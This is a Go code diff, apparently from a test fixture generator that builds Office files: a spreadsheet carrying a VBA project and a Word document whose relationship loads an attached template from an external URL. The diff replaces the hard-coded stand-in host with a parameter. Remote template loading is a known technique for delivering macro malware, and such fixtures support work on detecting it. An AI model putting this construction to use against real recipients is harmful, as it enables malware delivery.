@@ -80,10 +80,10 @@ func sheet(salt string, project []byte) []byte {
 	return office("xl/workbook.xml", main, body, "xl/vbaProject.bin", project, salt, "")
 }
 
-// template is a document that fetches its template from a host abroad.
-func template(salt string) []byte {
+// template is a document that fetches its template from that place.
+func template(at, salt string) []byte {
 	body := `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>資料</w:t></w:r></w:p></w:body></w:document>`
-	const rel = `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://files.unknown-host.example/t.dotm" TargetMode="External"/>`
+	rel := `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="` + at + `" TargetMode="External"/>`
 	return office("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", body, "", nil, salt, rel)
 }
 
